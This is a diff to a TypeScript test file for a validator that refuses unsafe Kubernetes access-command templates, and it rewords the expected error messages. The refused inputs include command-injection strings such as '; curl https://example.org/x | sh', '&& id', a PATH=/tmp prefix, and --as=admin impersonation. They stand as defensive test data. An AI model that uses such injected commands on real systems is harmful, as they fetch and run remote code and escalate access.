@@ -32,7 +32,7 @@ describe('the client that an access command runs', () => {
   const refused: [string, RegExp][] = [
     [
       `${exec}; curl https://example.org/x | sh`,
-      /has ";" outside of quotes, .* put what the pod’s shell is to read between single quotes$/,
+      /has ";" outside of quotes, .* put text for the pod’s shell between single quotes$/,
     ],
     [`${exec} | sh`, /has "\|" outside/],
     [`${exec} && id`, /has "&" outside/],
@@ -48,9 +48,9 @@ describe('the client that an access command runs', () => {
     [`${exec} {a,b}`, /has "\{" outside/],
     [`${exec} # and then`, /has "#" outside/],
     [`${exec} ‘quoted’`, /has "‘" outside/],
-    [`${exec} 'open`, /has a ' without its second; close the quotes/],
-    [`${exec} "open`, /has a " without its second/],
-    [`curl https://example.org`, /begins with "curl"; allowed are kubectl and oc, .* for example: kubectl exec/],
+    [`${exec} 'open`, /has an unclosed '; close the quotes/],
+    [`${exec} "open`, /has an unclosed "; close the quotes/],
+    [`curl https://example.org`, /begins with "curl"; allowed are kubectl and oc, for example: kubectl exec/],
     [`PATH=/tmp ${exec}`, /begins with "PATH=\/tmp"/],
     [`/tmp/kubectl exec ${pod.name}`, /begins with "\/tmp\/kubectl"/],
     [`''`, /begins with nothing/],
@@ -68,10 +68,10 @@ describe('the client that an access command runs', () => {
     [`kubectl exec ${pod.name} --as=admin -- sh`, /has the option "--as"/],
     [`kubectl exec -n${pod.namespace} ${pod.name} -- sh`, /has the option "-nthe namespace"/],
     [`kubectl exec -{{ index .Metadata.Labels "team" }} ${pod.name} -- sh`, /has the option "-the label"/],
-    [`kubectl exec vault-0 -- sh`, /goes to "vault-0"; write \{\{ \.Metadata\.Name \}\} in its place/],
-    [`kubectl exec deploy/${pod.name} -- sh`, /goes to "deploy\/the name"/],
-    [`kubectl exec -c ${pod.name} -- sh`, /goes to nothing/],
-    [`kubectl exec -- ${pod.name}`, /goes to nothing/],
+    [`kubectl exec vault-0 -- sh`, /has the target "vault-0"; write \{\{ \.Metadata\.Name \}\} instead/],
+    [`kubectl exec deploy/${pod.name} -- sh`, /has the target "deploy\/the name"/],
+    [`kubectl exec -c ${pod.name} -- sh`, /has the target nothing/],
+    [`kubectl exec -- ${pod.name}`, /has the target nothing/],
     [`kubectl exec -ti {{ .Spec.Name }} -- sh`, /only these placeholders are allowed/],
   ];
   for (const [source, message] of refused) {
